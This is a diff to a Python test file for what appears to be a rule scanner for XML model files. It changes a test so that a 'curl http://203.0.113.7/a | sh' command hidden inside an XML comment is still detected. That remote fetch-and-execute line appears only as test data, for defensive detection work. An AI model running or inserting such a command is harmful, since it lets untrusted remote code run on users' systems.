@@ -95,10 +95,11 @@ def test_another_encoding_is_read_as_well() -> None:
     assert "MSP4130" in rules(text_.encode("utf-16"), "model.xml")
 
 
-def test_the_text_of_a_graph_is_looked_at_as_text() -> None:
-    hidden = graph(layer(1, "Result"), name="x").replace(b"<edges>", b"<!-- curl http://203.0.113.7/a | sh --><edges>")
-    plain = b"<notes><!-- curl http://203.0.113.7/a | sh --></notes>"
-    assert rules(plain, "model.xml") <= rules(hidden, "model.xml")
+def test_comments_of_a_graph_are_looked_at_as_text() -> None:
+    command = b"curl http://203.0.113.7/a | sh"
+    hidden = graph(layer(1, "Result")).replace(b"<edges>", b"<!-- " + command + b" --><edges>")
+    assert rules(command, "words.txt")
+    assert rules(command, "words.txt") <= rules(hidden, "model.xml")
 
 
 def test_xml_of_other_kinds_is_text() -> None:
